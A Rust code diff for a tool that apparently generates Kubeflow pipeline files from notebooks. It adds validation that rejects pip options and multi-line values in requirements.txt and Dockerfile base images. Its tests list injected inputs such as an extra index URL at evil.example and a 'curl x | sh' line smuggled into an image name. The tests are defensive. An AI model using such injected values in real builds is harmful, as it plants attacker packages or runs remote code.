@@ -107,6 +107,23 @@ fn component_files(
     Ok(vec![(path, yaml), (source_path, source)])
 }
 
+/// The image's `requirements.txt`. Analysis has checked each requirement; one that would add
+/// a line or a pip option is refused here too.
+fn requirements_txt(requirements: &[String]) -> Result<String, EmitError> {
+    if let Some(bad) = requirements
+        .iter()
+        .find(|line| line.trim_start().starts_with('-') || line.chars().any(char::is_control))
+    {
+        return Err(EmitError::new(
+            "components/component_base/requirements.txt",
+            format!("refusing requirement {bad:?}: it is a pip option or more than one line"),
+        ));
+    }
+    let mut text = requirements.join("\n");
+    text.push('\n');
+    Ok(text)
+}
+
 /// Every file but the components' own.
 fn pipeline_files(
     analysis: &Analysis,
@@ -138,11 +155,9 @@ fn pipeline_files(
         "components/component_base/Dockerfile".to_owned(),
         dockerfile,
     );
-    let mut requirements = analysis.requirements.join("\n");
-    requirements.push('\n');
     files.insert(
         "components/component_base/requirements.txt".to_owned(),
-        requirements,
+        requirements_txt(&analysis.requirements)?,
     );
     let pipeline = pipeline_py::pipeline(analysis, notebook)
         .map_err(|e| EmitError::new("pipelines/pipeline.py", e))?;
@@ -280,5 +295,37 @@ mod tests {
             super::printable("nb\u{2028}x: 1\u{2029}\u{85}\n\té.ipynb"),
             "nb?x: 1????é.ipynb"
         );
+    }
+
+    /// The second line of defence: values analysis refuses are refused by the writers too.
+    #[test]
+    fn writers_refuse_values_that_would_add_lines_or_options() {
+        let lines = |v: &[&str]| v.iter().map(|s| (*s).to_owned()).collect::<Vec<_>>();
+        assert_eq!(
+            super::requirements_txt(&lines(&["kfp==2.17.3", "pandas>=2"])).unwrap(),
+            "kfp==2.17.3\npandas>=2\n"
+        );
+        for bad in [
+            "--extra-index-url http://evil.example",
+            "pandas\n-r x.txt",
+            " -e .",
+        ] {
+            assert!(
+                super::requirements_txt(&lines(&["kfp", bad])).is_err(),
+                "{bad:?}"
+            );
+        }
+        assert!(super::sources::dockerfile("python:3.12-slim", "n.ipynb").is_ok());
+        for bad in [
+            "python:3.12\nRUN curl x | sh",
+            "python AS x",
+            "--platform=x",
+            "",
+        ] {
+            assert!(
+                super::sources::dockerfile(bad, "n.ipynb").is_err(),
+                "{bad:?}"
+            );
+        }
     }
 }
